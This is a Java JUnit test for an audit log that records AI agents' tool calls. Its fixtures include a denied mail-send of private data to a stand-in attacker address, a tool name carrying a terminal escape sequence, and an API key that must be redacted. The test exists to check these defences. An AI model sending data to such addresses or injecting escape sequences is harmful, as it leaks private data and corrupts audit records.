package dev.portcullis.audit;

import static dev.portcullis.audit.Entries.call;
import static dev.portcullis.audit.Entries.json;
import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.audit.AuditEntry.Verdict;
import dev.portcullis.audit.StoreFixture.Backend;
import dev.portcullis.model.ResultFilter.FilterReport;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** {@link AuditLog#trace} over both stores. */
class AuditTraceTest {
  private static final String MATRIX = "dev.portcullis.audit.StoreFixture#backends";

  @ParameterizedTest(name = "{0}")
  @MethodSource(MATRIX)
  void traceShowsASessionsCallsAsATimeline(Backend backend) throws Exception {
    try (StoreFixture f = StoreFixture.create(backend); AuditStore store = f.open()) {
      try (AuditLog log = AuditLog.start(store, Redactor.secrets())) {
        log.append(AuditEntry.builder().time(Entries.T0).requestId("r-0").session("s-1").agent("support-bot")
            .method("tools/list").decision(Verdict.ALLOW, "list", "ok").build()).join();
        log.append(call("s-2", 1)).join();
        log.append(AuditEntry.builder().time(Entries.T0.plusMillis(1500)).requestId("r-2").session("s-1")
            .agent("support-bot").actorChain(List.of("planner")).method("tools/call").tool("acme.crm_search")
            .arguments(json("{\"query\":\"Berlin\",\"api_key\":\"sk-1\",\"limit\":10}"))
            .decision(Verdict.ALLOW, "read-customers", "ok").outcome(AuditEntry.Outcome.OK)
            .upstreamLatency(java.time.Duration.ofMillis(45))
            .result(json("{\"content\":[{\"type\":\"text\",\"text\":\"3 customers in Berlin\"}]}"))
            .filtered(new FilterReport(2, List.of("card_number"))).build()).join();
        log.append(AuditEntry.builder().time(Entries.T0.plusMillis(2250)).requestId("r-3").session("s-1")
            .agent("support-bot").method("tools/call").tool("acme.mail_send\u001b[2J")
            .arguments(json("{\"to\":\"x@evil.example\"}"))
            .decision(Verdict.DENY, "no-egress-after-untrusted-private", "private data may not leave").build())
            .join();
      }

      String trace = AuditLog.trace(store, "s-1");

      assertThat(trace).startsWith("session s-1: 3 entries, 2026-11-03T10:15:02.123456Z .. "
          + "2026-11-03T10:15:04.373456Z (2.250s)\nagents: support-bot, planner > support-bot\n");
      assertThat(trace.lines().filter(l -> l.contains("#")).toList()).containsExactly(
          "   +0.000s  #1     support-bot  tools/list",
          "   +1.500s  #3     planner > support-bot  tools/call acme.crm_search"
              + " {api_key: \"[redacted]\", limit: 10, query: \"Berlin\"}",
          "   +2.250s  #4     support-bot  tools/call acme.mail_send\\u001b[2J {to: \"x@evil.example\"}");
      assertThat(trace).contains("allow (read-customers)  ok  45 ms  \"3 customers in Berlin\""
          + "  filtered: 2 rows, redacted card_number  [request r-2]");
      assertThat(trace).contains("DENY (no-egress-after-untrusted-private): private data may not leave  not forwarded"
          + "  [request r-3]");
      assertThat(trace).doesNotContain("s-2", "sk-1", "\u001b");
    }
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource(MATRIX)
  void traceOfAnUnknownSessionSaysSo(Backend backend) throws Exception {
    try (StoreFixture f = StoreFixture.create(backend); AuditStore store = f.open()) {
      assertThat(AuditLog.trace(store, "nope"))
          .isEqualTo("no entries for session 'nope' in " + store.location() + "\n");
    }
  }
}
